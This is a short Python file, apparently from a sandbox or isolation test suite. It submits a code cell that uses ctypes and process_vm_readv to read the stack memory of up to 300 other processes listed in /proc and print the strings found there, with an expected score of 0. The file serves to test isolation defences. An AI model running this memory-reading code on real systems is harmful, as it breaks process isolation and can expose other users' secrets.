"""Reads the memory of every other process with process_vm_readv and /proc/*/mem.

deserves: 0
"""

CELL = r"""
import ctypes, glob, os
class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
libc, buffer = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(4096)
for process in glob.glob("/proc/[0-9]*")[:300]:
    try:
        line = next(line for line in open(f"{process}/maps") if "[stack]" in line)
        here, there = Part(ctypes.addressof(buffer), 4096), Part(int(line.split("-")[1].split()[0], 16) - 4096, 4096)
        read = libc.process_vm_readv(int(process[6:]), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        print(process, read, [word for word in buffer.raw.split(b"\0") if len(word) > 3] if read > 0 else "")
    except (OSError, StopIteration) as error:
        print(process, error)
"""


def attack(work):
    work.add(CELL)
